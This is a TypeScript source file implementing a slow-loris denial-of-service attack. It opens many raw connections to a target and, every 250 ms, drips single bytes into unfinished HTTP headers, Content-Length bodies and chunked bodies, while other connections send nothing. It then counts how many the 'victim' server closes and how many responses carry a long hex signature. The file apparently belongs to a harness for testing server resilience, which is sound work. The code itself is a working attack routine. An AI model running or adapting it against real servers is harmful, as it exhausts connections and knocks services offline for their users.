import type { Attack } from './attack.ts';
import { RawConnection, requestHead, signHead } from './raw-connection.ts';

/**
 * Slow-loris: headers, bodies and chunks of which a byte comes now and then, for ever, beside connections that say
 * nothing at all. It gives up when the victim has closed them all, or after `patienceMs`.
 */
export const slow = (async (target, { connections = 0, patienceMs = 0 }) => {
  const chunked = `${signHead(target, 'Transfer-Encoding: chunked')}\r\n`;
  const ways = [
    { start: requestHead('GET', '/upcheck', 'X-Slow: '), drip: 'a' },
    { start: `${signHead(target, 'Content-Length: 5000')}\r\n{`, drip: ' ' },
    { start: chunked, drip: '1\r\n \r\n' },
    { start: '', drip: '' },
  ];
  const opened: RawConnection[] = [];
  const drips: { readonly connection: RawConnection; readonly drip: string }[] = [];
  for (const { start, drip } of ways) {
    for (const connection of await RawConnection.openMany(target, Math.floor(connections / ways.length))) {
      // The last blank of a head is what the drips follow.
      connection.send(start.replace(/\r\n$/, start.includes('X-Slow') ? '' : '\r\n'));
      opened.push(connection);
      drips.push({ connection, drip });
    }
  }
  const timer = setInterval(() => {
    for (const { connection, drip } of drips) if (drip !== '') connection.send(drip);
  }, 250);
  const started = performance.now();
  await Promise.all(opened.map((connection) => connection.closedWithin(patienceMs)));
  clearInterval(timer);
  const closedByVictim = opened.filter((connection) => connection.closed).length;
  const signed = opened.filter(({ text }) => /0x[0-9a-f]{192}/.test(text)).length;
  await Promise.all(opened.map((connection) => connection.destroy()));
  return { opened: opened.length, closedByVictim, signed, tookMs: performance.now() - started };
}) satisfies Attack;
